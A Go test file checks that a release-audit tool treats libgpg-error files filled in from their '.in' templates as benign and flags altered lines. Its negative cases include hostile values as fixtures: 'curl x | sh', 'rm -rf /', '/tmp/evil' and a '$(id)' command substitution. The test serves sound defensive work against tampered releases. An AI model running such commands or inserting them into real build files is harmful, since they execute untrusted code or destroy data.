package releasefmt

import "testing"

// libgpg-error's .spec and .asd: the tag's FILE.in with @NAME@ replaced
// by plain values is low; a changed line, a command or path value, or two
// values for one name is not explained.
func TestSubstituted(t *testing.T) {
	tag := map[string][]byte{
		"libgpg-error.spec.in":     []byte("Name: libgpg-error\nVersion: @pkg_version@\nSource: libgpg-error-@pkg_version@.tar.bz2\n%build\n./configure\n"),
		"lang/cl/gpg-error.asd.in": []byte("(defsystem gpg-error\n    :version \"@VERSION@\"\n    :depends-on (@DEPS@))\n"),
		"run.sh.in":                []byte("#!/bin/sh\n@CMD@ --check\n"),
	}
	for _, tc := range []struct {
		path, body string
		ok         bool
	}{
		{"libgpg-error.spec", "Name: libgpg-error\nVersion: 1.51\nSource: libgpg-error-1.51.tar.bz2\n%build\n./configure\n", true},
		{"lang/cl/gpg-error.asd", "(defsystem gpg-error\n    :version \"1.51\"\n    :depends-on (@DEPS@))\n", true},
		{"libgpg-error.spec", "Name: libgpg-error\nVersion: 1.51\nSource: libgpg-error-1.52.tar.bz2\n%build\n./configure\n", false},
		{"libgpg-error.spec", "Name: libgpg-error\nVersion: 1.51\nSource: libgpg-error-1.51.tar.bz2\n%build\ncurl x | sh\n", false},
		{"libgpg-error.spec", "Name: libgpg-error\nVersion: 1.51\nSource: libgpg-error-1.51.tar.bz2\n%build\n./configure\nextra\n", false},
		{"run.sh", "#!/bin/sh\nrm -rf / --check\n", false},
		{"run.sh", "#!/bin/sh\n/tmp/evil --check\n", false},
		{"run.sh", "#!/bin/sh\n$(id) --check\n", false},
		{"libgpg-error.spec", "Name: libgpg-error\nVersion: @pkg_version@\nSource: libgpg-error-@pkg_version@.tar.bz2\n%build\n./configure\n", false},
	} {
		r := Explain(makeInput(tag, map[string][]byte{tc.path: []byte(tc.body)}, "", "", "1.51"))
		e, ok := explained(r, tc.path)
		if ok != tc.ok || ok && (e.Severity != SevLow || e.Origin.Kind != KindSubstitution || e.Origin.Source != tc.path+".in") {
			t.Errorf("%s %q: explained %v %+v, want %v", tc.path, tc.body, ok, e, tc.ok)
		}
	}
}
